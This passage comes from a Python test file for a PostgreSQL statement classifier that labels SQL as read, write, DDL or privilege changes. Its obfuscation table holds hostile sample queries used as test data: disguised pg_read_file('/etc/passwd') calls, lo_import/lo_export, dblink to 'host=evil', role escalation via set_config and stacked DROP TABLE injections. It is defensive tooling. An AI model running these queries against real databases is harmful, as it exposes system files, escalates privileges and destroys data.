    ("SET TRANSACTION READ WRITE", "transaction SET TRANSACTION S=transaction_read_only"),
    (
        "SET TRANSACTION ISOLATION LEVEL READ COMMITTED, NOT DEFERRABLE",
        "transaction SET TRANSACTION S=transaction_isolation,transaction_deferrable",
    ),
    (
        "SET TRANSACTION SNAPSHOT '00000003-0000001B-1'",
        "transaction SET TRANSACTION S=transaction_snapshot",
    ),
    (
        "SET SESSION CHARACTERISTICS AS TRANSACTION ISOLATION LEVEL SERIALIZABLE",
        "transaction SET SESSION CHARACTERISTICS S=default_transaction_isolation",
    ),
    ("SET CONSTRAINTS c1, c2 IMMEDIATE", "transaction SET CONSTRAINTS"),
    ("BEGIN", "transaction BEGIN"),
    ("BEGIN WORK", "transaction BEGIN"),
    ("BEGIN READ ONLY", "transaction BEGIN S=transaction_read_only"),
    (
        "BEGIN ISOLATION LEVEL SERIALIZABLE, READ WRITE, DEFERRABLE",
        "transaction BEGIN S=transaction_isolation,transaction_read_only,transaction_deferrable",
    ),
    ("START TRANSACTION", "transaction START TRANSACTION"),
    ("START TRANSACTION READ ONLY", "transaction START TRANSACTION S=transaction_read_only"),
    ("COMMIT", "transaction COMMIT"),
    ("COMMIT WORK", "transaction COMMIT"),
    ("COMMIT TRANSACTION AND NO CHAIN", "transaction COMMIT"),
    ("END TRANSACTION", "transaction COMMIT"),
    ("ROLLBACK", "transaction ROLLBACK"),
    ("ROLLBACK AND CHAIN", "transaction ROLLBACK"),
    ("ABORT WORK", "transaction ROLLBACK"),
    ("SAVEPOINT sp1", "transaction SAVEPOINT"),
    ("RELEASE SAVEPOINT sp1", "transaction RELEASE"),
    ("RELEASE sp1", "transaction RELEASE"),
    ("ROLLBACK TO SAVEPOINT sp1", "transaction ROLLBACK TO SAVEPOINT"),
    ("ROLLBACK TO sp1", "transaction ROLLBACK TO SAVEPOINT"),
    ("ROLLBACK WORK TO SAVEPOINT sp1", "transaction ROLLBACK TO SAVEPOINT"),
    ("PREPARE TRANSACTION 'tx1'", "transaction PREPARE TRANSACTION"),
    ("COMMIT PREPARED 'tx1'", "transaction COMMIT PREPARED"),
    ("ROLLBACK PREPARED 'tx1'", "transaction ROLLBACK PREPARED"),
]


PRIVILEGES = [
    ("GRANT SELECT ON ALL TABLES IN SCHEMA public TO app_read", "privilege GRANT"),
    ("REVOKE ALL ON t FROM PUBLIC", "privilege REVOKE"),
    ("GRANT app_write TO alice", "privilege GRANT"),
    (
        "ALTER DEFAULT PRIVILEGES IN SCHEMA public GRANT SELECT ON TABLES TO app_read",
        "privilege ALTER DEFAULT PRIVILEGES X=unparsed",
    ),
    ("GRANT SELECT ON t TO bob", "privilege GRANT"),
    ("GRANT demo_write TO bob WITH ADMIN OPTION", "privilege GRANT"),
    ("GRANT EXECUTE ON FUNCTION f(int) TO bob", "privilege GRANT"),
    ("REVOKE demo_write FROM bob", "privilege REVOKE"),
    ("REVOKE ALL ON SCHEMA public FROM PUBLIC", "privilege REVOKE"),
    ("CREATE ROLE bob LOGIN SUPERUSER", "privilege CREATE ROLE X=unparsed"),
    ("CREATE USER bob WITH PASSWORD 'secret'", "privilege CREATE USER X=unparsed"),
    ("CREATE GROUP g", "privilege CREATE GROUP X=unparsed"),
    ("ALTER ROLE bob SUPERUSER", "privilege ALTER ROLE X=unparsed"),
    ("ALTER USER bob WITH PASSWORD 'x'", "privilege ALTER USER X=unparsed"),
    ("ALTER ROLE bob SET search_path = x", "privilege ALTER ROLE X=unparsed"),
    ("ALTER GROUP g ADD USER bob", "privilege ALTER GROUP X=unparsed"),
    ("DROP ROLE bob", "privilege DROP ROLE X=unparsed"),
    ("DROP USER IF EXISTS bob", "privilege DROP USER X=unparsed"),
    ("DROP GROUP g", "privilege DROP GROUP X=unparsed"),
    (
        "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob",
        "privilege ALTER DEFAULT PRIVILEGES X=unparsed",
    ),
    ("REASSIGN OWNED BY a TO b", "privilege REASSIGN OWNED"),
    ("DROP OWNED BY a CASCADE", "privilege DROP OWNED X=unparsed"),
    ("SECURITY LABEL ON TABLE t IS 'secret'", "privilege SECURITY LABEL"),
    ("CREATE POLICY p ON t USING (owner = current_user)", "privilege CREATE POLICY X=unparsed"),
    ("ALTER POLICY p ON t USING (true)", "privilege ALTER POLICY X=unparsed"),
    ("DROP POLICY p ON t", "privilege DROP POLICY X=unparsed"),
    (
        "CREATE SCHEMA s AUTHORIZATION bob GRANT ALL ON TABLES TO PUBLIC",
        "privilege CREATE SCHEMA X=unparsed",
    ),
]


DDL = [
    (
        (
            "CREATE TABLE orders (id bigserial PRIMARY KEY, customer_id bigint NOT NULL "
            "REFERENCES customers(id) ON DELETE CASCADE, total numeric(12,2) NOT NULL DEFAULT "
            "0, created_at timestamptz NOT NULL DEFAULT now())"
        ),
        "ddl CREATE TABLE W=public.orders F=now",
    ),
    (
        "CREATE TABLE IF NOT EXISTS t (id uuid DEFAULT gen_random_uuid() PRIMARY KEY, data jsonb)",
        "ddl CREATE TABLE W=public.t F=gen_random_uuid",
    ),
    (
        (
            "CREATE TABLE t (a int, b text, CONSTRAINT t_pk PRIMARY KEY (a), CONSTRAINT t_u "
            "UNIQUE (b), CHECK (a > 0))"
        ),
        "ddl CREATE TABLE W=public.t",
    ),
    (
        (
            "CREATE TABLE t (a int GENERATED ALWAYS AS IDENTITY, b int GENERATED ALWAYS AS (a "
            "* 2) STORED)"
        ),
        "ddl CREATE TABLE W=public.t",
    ),
    ("CREATE TABLE p (a int, b date) PARTITION BY RANGE (b)", "ddl CREATE TABLE W=public.p"),
    (
        "CREATE TABLE p1 PARTITION OF p FOR VALUES FROM ('2020-01-01') TO ('2021-01-01')",
        "ddl CREATE TABLE W=public.p1",
    ),
    (
        "CREATE INDEX CONCURRENTLY idx_orders_customer ON orders (customer_id) INCLUDE (total)",
        "ddl CREATE INDEX",
    ),
    ("CREATE INDEX ON t USING gin (data jsonb_path_ops)", "ddl CREATE INDEX"),
    (
        "CREATE UNIQUE INDEX ON t (lower(email)) WHERE deleted_at IS NULL",
        "ddl CREATE INDEX F=lower",
    ),
    (
        "CREATE VIEW v AS SELECT id, name FROM customers",
        "ddl CREATE VIEW R=public.customers W=public.v",
    ),
    (
        "CREATE OR REPLACE VIEW v AS SELECT * FROM t WHERE a > 0",
        "ddl CREATE VIEW R=public.t W=public.v",
    ),
    ("CREATE SEQUENCE s INCREMENT BY 1 START WITH 100", "ddl CREATE SEQUENCE W=public.s"),
    ("CREATE TYPE status AS ENUM ('a', 'b')", "ddl CREATE TYPE"),
    ("CREATE SCHEMA app", "ddl CREATE SCHEMA"),
    ("CREATE EXTENSION IF NOT EXISTS pgcrypto", "ddl CREATE EXTENSION X=code,unparsed"),
    ("ALTER TABLE orders ADD COLUMN note text", "ddl ALTER TABLE W=public.orders"),
    (
        "ALTER TABLE orders ADD COLUMN IF NOT EXISTS note text DEFAULT ''",
        "ddl ALTER TABLE W=public.orders",
    ),
    ("ALTER TABLE orders DROP COLUMN IF EXISTS note", "ddl ALTER TABLE W=public.orders"),
    ("ALTER TABLE orders ALTER COLUMN total SET NOT NULL", "ddl ALTER TABLE W=public.orders"),
    ("ALTER TABLE orders ALTER COLUMN total TYPE numeric(14,2)", "ddl ALTER TABLE W=public.orders"),
    ("ALTER TABLE orders RENAME COLUMN a TO b", "ddl ALTER TABLE W=public.orders"),
    (
        (
            "ALTER TABLE orders ADD CONSTRAINT fk FOREIGN KEY (customer_id) REFERENCES "
            "customers (id) NOT VALID"
        ),
        "ddl ALTER TABLE W=public.orders",
    ),
    ("ALTER TABLE orders VALIDATE CONSTRAINT fk", "ddl ALTER TABLE W=public.orders X=unparsed"),
    ("ALTER TABLE orders OWNER TO app", "ddl ALTER TABLE W=public.orders X=unparsed"),
    ("ALTER TABLE t SET (fillfactor = 70)", "ddl ALTER TABLE W=public.t"),
    ("ALTER TYPE status ADD VALUE 'c'", "ddl ALTER TYPE X=unparsed"),
    ("ALTER SEQUENCE s RESTART WITH 1", "ddl ALTER SEQUENCE W=public.s X=unparsed"),
    ("ALTER INDEX i RENAME TO j", "ddl ALTER INDEX W=public.i"),
    ("DROP INDEX CONCURRENTLY IF EXISTS i", "ddl DROP INDEX W=public.i"),
    ("DROP VIEW IF EXISTS v", "ddl DROP VIEW W=public.v"),
    ("DROP TABLE t", "ddl DROP TABLE W=public.t"),
    ("DROP SCHEMA app CASCADE", "ddl DROP SCHEMA"),
    ("DROP TYPE status", "ddl DROP TYPE"),
    ("COMMENT ON TABLE t IS 'orders'", "ddl COMMENT"),
    ("ALTER SYSTEM SET work_mem = '1GB'", "ddl ALTER SYSTEM X=unparsed"),
    ("ALTER SYSTEM RESET ALL", "ddl ALTER SYSTEM X=unparsed"),
    (
        "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'x')",
        "ddl CREATE SERVER X=foreign,unparsed",
    ),
    ("ALTER SERVER s OPTIONS (SET host 'y')", "ddl ALTER SERVER X=foreign,unparsed"),
    ("DROP SERVER s", "ddl DROP SERVER X=unparsed"),
    (
        "CREATE USER MAPPING FOR bob SERVER s OPTIONS (user 'x', password 'y')",
        "ddl CREATE USER MAPPING X=foreign,unparsed",
    ),
    (
        "ALTER USER MAPPING FOR bob SERVER s OPTIONS (SET password 'z')",
        "ddl ALTER USER MAPPING X=foreign,unparsed",
    ),
    ("DROP USER MAPPING FOR bob SERVER s", "ddl DROP USER MAPPING X=unparsed"),
    (
        "CREATE FOREIGN TABLE ft (a int) SERVER s",
        "ddl CREATE FOREIGN TABLE W=public.ft X=foreign,unparsed",
    ),
    ("CREATE FOREIGN DATA WRAPPER w", "ddl CREATE FOREIGN DATA WRAPPER X=foreign,unparsed"),
    (
        "IMPORT FOREIGN SCHEMA public FROM SERVER s INTO local",
        "ddl IMPORT FOREIGN SCHEMA X=foreign",
    ),
    (
        "CREATE SUBSCRIPTION sub CONNECTION 'host=x' PUBLICATION p",
        "ddl CREATE SUBSCRIPTION X=foreign,unparsed",
    ),
    ("CREATE PUBLICATION p FOR ALL TABLES", "ddl CREATE PUBLICATION X=unparsed"),
    ("CREATE EXTENSION dblink", "ddl CREATE EXTENSION X=code,foreign,unparsed"),
    ("CREATE EXTENSION IF NOT EXISTS postgres_fdw", "ddl CREATE EXTENSION X=code,foreign,unparsed"),
    ('CREATE EXTENSION "file_fdw"', "ddl CREATE EXTENSION X=code,foreign,unparsed"),
    ("CREATE EXTENSION pgcrypto SCHEMA public", "ddl CREATE EXTENSION X=code,unparsed"),
    ("ALTER EXTENSION pgcrypto UPDATE", "ddl ALTER EXTENSION X=code,unparsed"),
    ("DROP EXTENSION pgcrypto", "ddl DROP EXTENSION X=unparsed"),
    (
        "CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql",
        "ddl CREATE FUNCTION X=code",
    ),
    (
        (
            "CREATE OR REPLACE FUNCTION f(a int DEFAULT 1) RETURNS int LANGUAGE plpgsql AS $$ "
            "BEGIN RETURN a; END $$"
        ),
        "ddl CREATE FUNCTION X=code",
    ),
    (
        (
            "CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER SET search_path = "
            "pg_temp AS 'select 1'"
        ),
        "ddl CREATE FUNCTION X=code,unparsed",
    ),
    (
        "CREATE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN COMMIT; END $$",
        "ddl CREATE PROCEDURE X=code",
    ),
    ("ALTER FUNCTION f() SECURITY DEFINER", "ddl ALTER FUNCTION X=code,unparsed"),
    ("ALTER FUNCTION f() OWNER TO postgres", "ddl ALTER FUNCTION X=code,unparsed"),
    ("DROP FUNCTION f(int)", "ddl DROP FUNCTION"),
    ("DROP PROCEDURE p", "ddl DROP PROCEDURE"),
    ("CREATE LANGUAGE plperlu", "ddl CREATE LANGUAGE X=code,unparsed"),
    ("CREATE TRUSTED PROCEDURAL LANGUAGE plx", "ddl CREATE LANGUAGE X=code,unparsed"),
    (
        "CREATE TRIGGER tr AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()",
        "ddl CREATE TRIGGER W=public.t F=f",
    ),
    (
        "CREATE EVENT TRIGGER et ON ddl_command_start EXECUTE FUNCTION f()",
        "ddl CREATE EVENT TRIGGER F=f X=unparsed",
    ),
    (
        "CREATE RULE r AS ON INSERT TO t DO ALSO (DELETE FROM x; INSERT INTO y VALUES (1))",
        "ddl CREATE RULE X=unparsed",
    ),
    (
        "CREATE OR REPLACE RULE r AS ON SELECT TO t DO INSTEAD SELECT 1",
        "ddl CREATE RULE X=unparsed",
    ),
    ("CREATE DOMAIN d AS int CHECK (VALUE > 0)", "ddl CREATE DOMAIN X=unparsed"),
    ("CREATE AGGREGATE a (int) (SFUNC = int4pl, STYPE = int)", "ddl CREATE AGGREGATE X=unparsed"),
    (
        "CREATE OPERATOR === (LEFTARG = int, RIGHTARG = int, FUNCTION = int4eq)",
        "ddl CREATE OPERATOR X=unparsed",
    ),
    ("CREATE CAST (text AS int) WITH FUNCTION f(text)", "ddl CREATE CAST F=f X=unparsed"),
    ("CREATE COLLATION c (locale = 'C')", "ddl CREATE COLLATION X=unparsed"),
    (
        "CREATE TEXT SEARCH CONFIGURATION c (COPY = english)",
        "ddl CREATE TEXT SEARCH CONFIGURATION X=unparsed",
    ),
    ("CREATE DATABASE d", "ddl CREATE DATABASE"),
    ("DROP DATABASE d", "ddl DROP DATABASE"),
    ("CREATE TABLESPACE ts LOCATION '/tmp'", "ddl CREATE TABLESPACE X=unparsed"),
    ("CREATE STATISTICS s ON a, b FROM t", "ddl CREATE STATISTICS X=unparsed"),
    ("CREATE ACCESS METHOD am TYPE TABLE HANDLER h", "ddl CREATE ACCESS METHOD X=code,unparsed"),
    (
        (
            "CREATE TRANSFORM FOR int LANGUAGE plx (FROM SQL WITH FUNCTION f(internal), TO SQL "
            "WITH FUNCTION g(int))"
        ),
        "ddl CREATE TRANSFORM F=plx,f,g X=code,unparsed",
    ),
    ("CREATE CONVERSION c FOR 'LATIN1' TO 'UTF8' FROM f", "ddl CREATE CONVERSION X=unparsed"),
    ("ALTER LARGE OBJECT 1 OWNER TO bob", "ddl ALTER LARGE OBJECT X=unparsed"),
    (
        "ALTER MATERIALIZED VIEW mv RENAME TO mv2",
        "ddl ALTER MATERIALIZED VIEW W=public.mv X=unparsed",
    ),
    ("DROP MATERIALIZED VIEW mv", "ddl DROP MATERIALIZED VIEW W=public.mv"),
    ("DROP SEQUENCE s", "ddl DROP SEQUENCE W=public.s"),
    ("DROP TABLE a, s.b CASCADE", "ddl DROP TABLE W=public.a,s.b"),
    ('DROP TABLE IF EXISTS "T"', 'ddl DROP TABLE W=public."T"'),
    ("DROP FOREIGN TABLE ft", "ddl DROP FOREIGN TABLE W=public.ft X=unparsed"),
    ("TRUNCATE t", "write TRUNCATE W=public.t"),
    ("TRUNCATE TABLE ONLY a, b RESTART IDENTITY CASCADE", "write TRUNCATE W=public.a,public.b"),
    ("TRUNCATE a *", "write TRUNCATE W=public.a"),
    ("COMMENT ON TABLE t IS 'x'", "ddl COMMENT"),
    ("COMMENT ON FUNCTION f(int) IS 'x'", "ddl COMMENT"),
]


UTILITY = [
    ("ANALYZE orders", "utility ANALYZE"),
    ("VACUUM (VERBOSE, ANALYZE) orders", "utility VACUUM"),
    ("REINDEX INDEX CONCURRENTLY i", "utility REINDEX"),
    ("CLUSTER orders USING i", "utility CLUSTER"),
    ("CHECKPOINT", "utility CHECKPOINT"),
    ("REFRESH MATERIALIZED VIEW CONCURRENTLY mv", "write REFRESH MATERIALIZED VIEW W=public.mv"),
    ('LISTEN "events"', "utility LISTEN X=listen"),
    ("NOTIFY events", "utility NOTIFY X=notify"),
    ("VACUUM", "utility VACUUM"),
    ("VACUUM FULL t", "utility VACUUM"),
    ("VACUUM (FULL, ANALYZE) t (a)", "utility VACUUM"),
    ("ANALYZE", "utility ANALYZE"),
    ("ANALYSE t", "utility ANALYZE"),
    ("ANALYZE f(1)", "utility ANALYZE"),
    ("CLUSTER", "utility CLUSTER"),
    ("REINDEX DATABASE d", "utility REINDEX"),
    ("LOAD 'auto_explain'", "utility LOAD X=code"),
    ("REFRESH MATERIALIZED VIEW mv", "write REFRESH MATERIALIZED VIEW W=public.mv"),
    ("REFRESH MATERIALIZED VIEW mv WITH NO DATA", "write REFRESH MATERIALIZED VIEW W=public.mv"),
    ("LOCK t", "write LOCK TABLE W=public.t X=row_lock"),
    (
        "LOCK TABLE ONLY a, b IN SHARE ROW EXCLUSIVE MODE NOWAIT",
        "write LOCK TABLE W=public.a,public.b X=row_lock",
    ),
    ("LOCK TABLE t IN ACCESS SHARE MODE", "read LOCK TABLE R=public.t X=row_lock"),
    ("LOCK t *, u", "write LOCK TABLE W=public.t,public.u X=row_lock"),
    (
        "DECLARE c CURSOR FOR SELECT * FROM t",
        "read DECLARE CURSOR R=public.t {read SELECT R=public.t}",
    ),
    (
        "DECLARE c BINARY INSENSITIVE NO SCROLL CURSOR WITHOUT HOLD FOR SELECT 1",
        "read DECLARE CURSOR {read SELECT}",
    ),
    (
        "DECLARE c CURSOR FOR SELECT pg_read_file('x')",
        "read DECLARE CURSOR F=pg_read_file {read SELECT F=pg_read_file}",
    ),
    ("FETCH c", "read FETCH"),
    ("FETCH NEXT FROM c", "read FETCH"),
    ("FETCH FORWARD 10 IN c", "read FETCH"),
    ("FETCH ALL c", "read FETCH"),
    ("MOVE LAST IN c", "read MOVE"),
    ("CLOSE c", "utility CLOSE"),
    ("CLOSE ALL", "utility CLOSE"),
]


OBFUSCATION = [
    ("SeLeCt * FrOm T", "read SELECT R=public.t"),
    ("sElEcT pg_READ_file('/etc/passwd')", "read SELECT F=pg_read_file"),
    ("SELECT/**/pg_read_file('/etc/passwd')", "read SELECT F=pg_read_file"),
    ("SELECT pg_read_file/* c */('/etc/passwd')", "read SELECT F=pg_read_file"),
    ("SELECT pg_catalog.pg_read_file('/etc/passwd')", "read SELECT F=pg_catalog.pg_read_file"),
    (
        'SELECT "pg_catalog"."pg_read_file"(\'/etc/passwd\')',
        "read SELECT F=pg_catalog.pg_read_file",
    ),
    ("SELECT \"pg_read_file\"('/etc/passwd')", "read SELECT F=pg_read_file"),
    ("SELECT \"PG_READ_FILE\"('/etc/passwd')", 'read SELECT F="PG_READ_FILE"'),
    ("SELECT pg_catalog . pg_read_file ( '/etc/passwd' )", "read SELECT F=pg_catalog.pg_read_file"),
    ("SELECT\tpg_read_file\n('/etc/passwd')", "read SELECT F=pg_read_file"),
    ("SELECT\x0cpg_read_file('/etc/passwd')", "read SELECT F=pg_read_file"),
    ("SELECT pg_read_binary_file('/etc/passwd')", "read SELECT F=pg_read_binary_file"),
    ("SELECT * FROM pg_ls_dir('.')", "read SELECT F=pg_ls_dir"),
    ("SELECT pg_stat_file('postgresql.conf')", "read SELECT F=pg_stat_file"),
    ("SELECT lo_import('/etc/passwd')", "read SELECT F=lo_import"),
    ("SELECT lo_export(16384, '/tmp/x')", "read SELECT F=lo_export"),
    ("SELECT lo_get(16384)", "read SELECT F=lo_get"),
    ("SELECT loread(lo_open(16384, 262144), 100)", "read SELECT F=loread,lo_open"),
    ("SELECT dblink_connect('host=evil')", "read SELECT F=dblink_connect"),
    ("SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)", "read SELECT F=dblink"),
    ("SELECT postgres_fdw_disconnect_all()", "read SELECT F=postgres_fdw_disconnect_all"),
    (
        "SELECT pg_catalog.pg_terminate_backend(123)",
        "read SELECT F=pg_catalog.pg_terminate_backend",
    ),
    (
        "SELECT pg_cancel_backend(pid) FROM pg_stat_activity",
        "read SELECT R=pg_catalog.pg_stat_activity F=pg_cancel_backend",
    ),
    ("SELECT pg_reload_conf()", "read SELECT F=pg_reload_conf"),
    (
        "SELECT query_to_xml('delete from t returning 1', true, false, '')",
        "read SELECT F=query_to_xml",
    ),
    ("SELECT set_config('role', 'postgres', false)", "privilege SELECT F=set_config S=role"),
    (
        "SELECT pg_catalog.set_config('role', 'postgres', false)",
        "privilege SELECT F=pg_catalog.set_config S=role",
    ),
    (
        "SELECT set_config('session_authorization', 'postgres', false)",
        "privilege SELECT F=set_config S=session_authorization",
    ),
    ("SELECT set_config('ROLE', 'x', true)", "privilege SELECT F=set_config S=role"),
    ("SELECT set_config(E'rol\\x65', 'x', false)", "privilege SELECT F=set_config S=*"),
    ("SELECT set_config(U&'\\0072ole', 'x', false)", "privilege SELECT F=set_config S=*"),
    ("SELECT set_config('ro' || 'le', 'x', false)", "privilege SELECT F=set_config S=*"),
    ("SELECT set_config($1, 'x', false)", "privilege SELECT F=set_config S=*"),
    (
        "SELECT set_config('client_encoding', 'SJIS', false)",
        "session_state SELECT F=set_config S=client_encoding",
    ),
    ("SELECT set_config('work_mem', '1GB', false)", "session_state SELECT F=set_config S=work_mem"),
    (
        "SELECT set_config(name, 'x', false) FROM (VALUES ('role')) v(name)",
        "privilege SELECT F=set_config S=*",
    ),
    ("SELECT * FROM set_config('role', 'x', false)", "privilege SELECT F=set_config S=role"),
    ("SELECT current_setting('role')", "read SELECT F=current_setting"),
    (
        "UPDATE pg_settings SET setting = 'x' WHERE name = 'role'",
        "privilege UPDATE W=pg_catalog.pg_settings where=yes S=*",
    ),
    (
        (
            "UPDATE pg_catalog.pg_settings SET setting = 'on' WHERE name = "
            "'standard_conforming_strings'"
        ),
        "privilege UPDATE W=pg_catalog.pg_settings where=yes S=*",
    ),
    ("SELECT 'DROP TABLE x'", "read SELECT"),
    ("SELECT $$DROP TABLE x$$", "read SELECT"),
    ("SELECT $tag$ DROP TABLE x; $tag$", "read SELECT"),
    ("SELECT E'DROP TABLE x\\'; DROP TABLE y'", "read SELECT"),
    ("SELECT 'a\\'; DROP TABLE x; --'", "read SELECT ; ddl DROP TABLE W=public.x"),
    ("SELECT 1 -- ; DROP TABLE x", "read SELECT"),
    ("SELECT 1 /* ; DROP TABLE x */", "read SELECT"),
    ("SELECT 1 /* nested /* ; DROP TABLE x */ still comment */", "read SELECT"),
    ("SELECT 1 /* nested /* ; */ DROP TABLE x; */", "read SELECT"),
    ("SELECT 1 --c\r; DROP TABLE x", "read SELECT ; ddl DROP TABLE W=public.x"),
    ("/* DROP TABLE x */ SELECT 1", "read SELECT"),
    ("-- DROP TABLE x\nSELECT 1", "read SELECT"),
    ('SELECT "DROP TABLE x" FROM t', "read SELECT R=public.t"),
    ('SELECT 1 AS "; DROP TABLE x"', "read SELECT"),
    ('DROP TABLE "public"."Customers"', 'ddl DROP TABLE W=public."Customers"'),
    (
        'DELETE FROM "public"."Customers" WHERE "Id" = 1',
        'write DELETE W=public."Customers" where=yes',
    ),
    ('DELETE FROM "Public"."customers" WHERE true', 'write DELETE W="Public".customers where=no'),
    ("SELECT 1; DROP TABLE x", "read SELECT ; ddl DROP TABLE W=public.x"),
    ("SELECT 1;DROP TABLE x;", "read SELECT ; ddl DROP TABLE W=public.x"),
    (
        "SELECT 1; SELECT 2; DELETE FROM t",
        "read SELECT ; read SELECT ; write DELETE W=public.t where=no",
    ),
    (
        "BEGIN; DELETE FROM t WHERE id = 1; COMMIT",
        "transaction BEGIN ; write DELETE W=public.t where=yes ; transaction COMMIT",
    ),
    (
        "CREATE TABLE t (a text DEFAULT pg_read_file('/etc/passwd'))",
        "ddl CREATE TABLE W=public.t F=pg_read_file",
    ),
    (
        "CREATE TABLE t (a text CHECK (pg_read_file('/x') IS NOT NULL))",
        "ddl CREATE TABLE W=public.t F=pg_read_file",
    ),
    (
        "ALTER TABLE t ADD COLUMN b text DEFAULT pg_read_file('/etc/passwd')",
        "ddl ALTER TABLE W=public.t F=pg_read_file",
    ),
    (
        "ALTER TABLE t ALTER COLUMN a TYPE int USING length(pg_read_file('/x'))",
        "ddl ALTER TABLE W=public.t F=length,pg_read_file",
    ),
    ("CREATE INDEX ON t ((pg_read_file('/x')))", "ddl CREATE INDEX F=pg_read_file"),
    (
        "UPDATE t SET a = 1 WHERE pg_read_file('/x') IS NOT NULL",
        "write UPDATE W=public.t where=no F=pg_read_file",
    ),
    ("INSERT INTO t VALUES (pg_read_file('/x'))", "write INSERT W=public.t F=pg_read_file"),
    (
        "SELECT * FROM t WHERE a = (SELECT pg_read_file('/x'))",
        "read SELECT R=public.t F=pg_read_file",
    ),
    ("SELECT * FROM t ORDER BY pg_read_file('/x')", "read SELECT R=public.t F=pg_read_file"),
    (
        "SELECT count(*) FILTER (WHERE pg_read_file('/x') <> '') FROM t",
        "read SELECT R=public.t F=count,pg_read_file",
    ),
    ("SELECT (SELECT (SELECT (SELECT pg_read_file('/x'))))", "read SELECT F=pg_read_file"),
    ("WITH a AS (SELECT pg_read_file('/x')) SELECT * FROM a", "read SELECT F=pg_read_file"),
    ("SELECT * FROM t, LATERAL pg_ls_dir(t.dir)", "read SELECT R=public.t F=pg_ls_dir"),
    (
        "SELECT * FROM ROWS FROM (pg_ls_dir('.'), generate_series(1, 3))",
        "read SELECT F=pg_ls_dir,generate_series",
    ),
    ("VALUES (pg_read_file('/x'))", "read VALUES F=pg_read_file"),
    ("SELECT * FROM t FOR UPDATE", "write SELECT R=public.t X=row_lock"),
    ("SELECT * FROM t FOR UPDATE SKIP LOCKED", "write SELECT R=public.t X=row_lock"),
    ("SELECT * FROM (SELECT * FROM t FOR UPDATE) s", "write SELECT R=public.t X=row_lock"),
    (
        "WITH x AS (DELETE FROM t WHERE 1 = 1 RETURNING *) SELECT count(*) FROM x",
        "write SELECT W=public.t F=count {write DELETE W=public.t where=no}",
    ),
    (
        "explain analyze delete from t where true",
        "write EXPLAIN ANALYZE W=public.t {write DELETE W=public.t where=no}",
    ),
    (
        "PREPARE p AS DELETE FROM t; EXECUTE p",
        "utility PREPARE P=p {write DELETE W=public.t where=no E=later} ; utility EXECUTE P=p",
    ),
    ("DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$", "utility DO X=code,opaque"),
    ("dO $x$ BEGIN NULL; END $x$", "utility DO X=code,opaque"),
    ("CALL public.cleanup()", "utility CALL F=public.cleanup X=opaque"),
    (
        "SELECT 1 FROM t WHERE a = ANY(ARRAY(SELECT pg_ls_dir('.')))",
        "read SELECT R=public.t F=pg_ls_dir",
    ),
]


ALL_TABLES = (
    QUERIES
    + WRITES
    + WHERE_CLAUSES
    + NESTED
    + SESSION
    + TRANSACTIONS
    + PRIVILEGES
    + DDL
    + UTILITY
    + OBFUSCATION
)


@pytest.mark.parametrize(("sql", "expected"), ALL_TABLES)
def test_summary(sql: str, expected: str) -> None:
    assert summary(sql) == expected


def test_tables_are_large_and_distinct() -> None:
    inputs = [sql for sql, _ in ALL_TABLES]
    assert len(inputs) == len(set(inputs))
    assert len(inputs) >= 500


# --- search_path, names, parameters ------------------------------------------


@pytest.mark.parametrize(
    ("search_path", "sql", "expected"),
    [
        (("public",), "SELECT * FROM t", "read SELECT R=public.t"),
        # PostgreSQL takes the first schema that holds t: every candidate is reported.
        (("app", "public"), "SELECT * FROM t", "read SELECT R=app.t,public.t"),
        (
            ("secret", "public"),
            "DELETE FROM people",
            "write DELETE W=secret.people,public.people where=no",
        ),
        (("app", "app", "public"), "SELECT * FROM t", "read SELECT R=app.t,public.t"),
        (("alice", "public"), "SELECT * FROM t", "read SELECT R=alice.t,public.t"),
        (("$user", "app"), "SELECT * FROM t", "read SELECT R=app.t"),
        (("$user",), "SELECT * FROM t", "read SELECT R=public.t"),
        ((), "SELECT * FROM t", "read SELECT R=public.t"),
        (("pg_temp", "app"), "SELECT * FROM t", "read SELECT R=app.t"),
        # pg_catalog holds only pg_* relations, and is searched first unless placed
        (("pg_catalog", "app"), "SELECT * FROM t", "read SELECT R=app.t"),
        (("app", "public"), "SELECT * FROM pg_class", "read SELECT R=pg_catalog.pg_class"),
        (
            ("app", "pg_catalog", "public"),
            "SELECT * FROM pg_class",
            "read SELECT R=app.pg_class,pg_catalog.pg_class",
        ),
        (
            ("app", "public"),
            "SELECT * FROM t JOIN u USING (id)",
            "read SELECT R=app.t,public.t,app.u,public.u",
        ),
        (("app", "public"), "SELECT * FROM other.t", "read SELECT R=other.t"),
        (
            ("app", "public"),
            "UPDATE t SET a = 1 WHERE id = 2",
            "write UPDATE W=app.t,public.t where=yes",
        ),
        (("app", "public"), "COPY t TO STDOUT", "read COPY R=app.t,public.t C=to:stdio"),
        (
            ("app", "public"),
            "LOCK t, u",
            "write LOCK TABLE W=app.t,public.t,app.u,public.u X=row_lock",
        ),
        (
            ("app", "public"),
            "REFRESH MATERIALIZED VIEW v",
            "write REFRESH MATERIALIZED VIEW W=app.v,public.v",
        ),
        (("app", "public"), "DROP TABLE t", "ddl DROP TABLE W=app.t,public.t"),
        (("app", "public"), "WITH t AS (SELECT 1) SELECT * FROM t", "read SELECT"),
        (('"My Schema"',), "SELECT * FROM t", 'read SELECT R="""My Schema""".t'),
        (("app",), "SELECT * FROM other.t", "read SELECT R=other.t"),
        (("app",), "SELECT * FROM pg_class", "read SELECT R=pg_catalog.pg_class"),
        (("app",), "DELETE FROM t WHERE id = 1", "write DELETE W=app.t where=yes"),
        (
            ("app",),
            "UPDATE pg_settings SET setting = 'x' WHERE true",
            ("privilege UPDATE W=pg_catalog.pg_settings where=no S=*"),
        ),
        (("app",), "COPY t FROM STDIN", "write COPY W=app.t C=from:stdio"),
        (("app",), "LOCK t", "write LOCK TABLE W=app.t X=row_lock"),
        (("app",), "CREATE TABLE t (a int)", "ddl CREATE TABLE W=app.t"),
        (("app",), "SELECT f(1)", "read SELECT F=f"),
    ],
)
def test_search_path(search_path: tuple[str, ...], sql: str, expected: str) -> None:
    assert summary(sql, search_path=search_path) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("", ()),
        ("  ", ()),
        ("public", ("public",)),
